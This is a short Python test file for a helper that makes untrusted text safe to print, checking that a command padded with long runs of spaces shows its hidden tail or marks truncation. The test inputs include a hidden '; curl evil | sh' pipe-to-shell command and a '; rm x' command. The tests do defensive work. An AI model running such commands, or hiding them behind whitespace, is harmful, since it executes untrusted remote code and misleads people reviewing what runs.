"""Test how texts of others are made safe to print."""

from __future__ import annotations

import pytest

from amplifier_foundation.documents.safe_text import LOOKED_AT, one_line


@pytest.mark.parametrize("gap", [400, LOOKED_AT, 3 * LOOKED_AT])
def test_a_line_tells_that_it_has_an_end_which_is_not_shown(gap: int) -> None:
    assert one_line(f"make test{' ' * gap}; curl evil | sh", 24).endswith("…")
    assert one_line(f"make test{' ' * gap}", 24) == "make test"


def test_a_line_holds_what_stands_behind_a_gap() -> None:
    assert one_line(f"make test{' ' * 400}; rm x", 24) == "make test ; rm x"
